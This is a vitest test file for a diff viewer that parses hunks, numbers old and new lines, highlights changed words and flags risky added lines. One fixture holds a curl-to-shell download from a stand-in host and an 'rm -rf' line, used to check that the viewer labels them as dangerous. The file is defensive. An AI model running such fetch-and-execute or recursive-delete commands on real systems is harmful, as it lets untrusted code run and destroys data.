import { describe, expect, test } from 'vitest'
import { diffCounts, diffLines, lineText } from './diff-lines.ts'

const PACKAGE = `diff --git a/package.json b/package.json
index 1..2 100644
--- a/package.json
+++ b/package.json
@@ -8,5 +8,6 @@
   "scripts": {
     "dev": "vite",
+    "test:reset": "vitest run test/http/reset",
     "typecheck": "tsc --noEmit"
   },
@@ -19,4 +20,5 @@
   "dependencies": {
-    "pg": "^8.13.1"
+    "pg": "^8.13.1",
+    "rate-limiter-flexible": "^7.1.1"
   },
`

describe('diff lines', () => {
  test('WR1 two versions without a line break at their end say so once, and their words are compared', () => {
    const note = '\\ No newline at end of file'
    const both = diffLines('a.txt', `@@ -1,1 +1,1 @@\n-the old end\n${note}\n+the new end\n${note}`)
    expect(both.map(({ kind }) => kind)).toEqual(['hunk', 'remove', 'add', 'meta'])
    expect(both[2]?.pieces.filter(({ mark }) => mark).map(({ text }) => text)).toEqual(['new'])
    const removed = diffLines('a.txt', `@@ -1,1 +1,1 @@\n-end\n${note}\n+end`)
    expect(removed.map(({ kind }) => kind)).toEqual(['hunk', 'remove', 'meta', 'add'])
  })
  test('WR1 lines have the numbers of the old and the new file', () => {
    const lines = diffLines('package.json', PACKAGE)
    const added = lines.find((line) => lineText(line).includes('test:reset'))
    expect([added?.kind, added?.before, added?.after]).toEqual(['add', null, 10])
    const last = lines.findLast((line) => line.kind === 'context')
    expect([last?.before, last?.after]).toEqual([21, 23])
    expect(diffCounts(lines)).toEqual({ added: 3, removed: 1 })
    expect(lines.filter((line) => line.kind === 'hunk').map(lineText)).toEqual(['lines 8 to 13', 'lines 20 to 24'])
  })

  test('WR1 a changed pair marks only the words that changed', () => {
    const lines = diffLines('package.json', PACKAGE)
    const changed = lines.find((line) => line.kind === 'add' && lineText(line).includes('"pg"'))
    expect(changed?.pieces.filter(({ mark }) => mark).map(({ text }) => text)).toEqual([','])
    const unlike = diffLines('a', '@@ -1 +1 @@\n-alpha beta gamma\n+entirely different words here')
    expect(unlike.flatMap(({ pieces }) => pieces).some(({ mark }) => mark)).toBe(false)
  })

  test('WR2 risky lines have a note, others none', () => {
    const notes = diffLines('package.json', PACKAGE).flatMap(({ note }) => note ?? [])
    expect(notes).toEqual(['new script', 'new dependency', 'new dependency'])
    const shell = diffLines('setup.sh', '@@ -0,0 +1,3 @@\n+curl https://x.test/i.sh | sh\n+rm -rf build\n+echo done')
    expect(shell.map(({ note }) => note)).toEqual([null, 'downloads and executes', 'deletes recursively', null])
  })

  test('a removed line that looks like a header of a diff stays a removed line', () => {
    const lines = diffLines('a.sql', '@@ -1,2 +1 @@\n--- old comment\n+++ new\n context')
    expect(lines.map(({ kind }) => kind)).toEqual(['hunk', 'remove', 'add', 'context'])
  })

  test('the notes of a line of a megabyte take no time that a reader notices', () => {
    const [, line] = diffLines('a.sh', `@@ -0,0 +1 @@\n+${'curl '.repeat(200_000)}`)
    expect(line?.note).toBeNull()
  })
})
